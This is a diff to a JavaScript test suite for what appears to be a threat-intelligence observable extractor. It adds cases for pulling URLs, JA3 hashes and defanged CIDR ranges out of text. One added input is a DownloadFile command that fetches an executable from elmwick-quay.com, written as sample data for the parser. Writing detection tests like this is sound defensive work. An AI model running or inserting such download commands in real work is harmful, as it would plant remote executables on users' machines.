@@ -350,6 +350,12 @@ describe('more kinds of observables', () => {
         'package pkg:pypi/quaylib@2.0.1',
       ],
     ],
+    [
+      'what marks enclose',
+      "DownloadFile('http://elmwick-quay.com/p.exe','C:\\x')",
+      ['url http://elmwick-quay.com/p.exe'],
+    ],
+    ['a fingerprint of TLS', `The JA3 hash ${md5} was seen`, [`ja3 ${md5}`]],
     ['ranges at the end of a sentence', 'It scanned 45[.]77[.]0[.]0/16.', ['cidr 45.77.0.0/16']],
     [
       'addresses that take the scheme of their page',
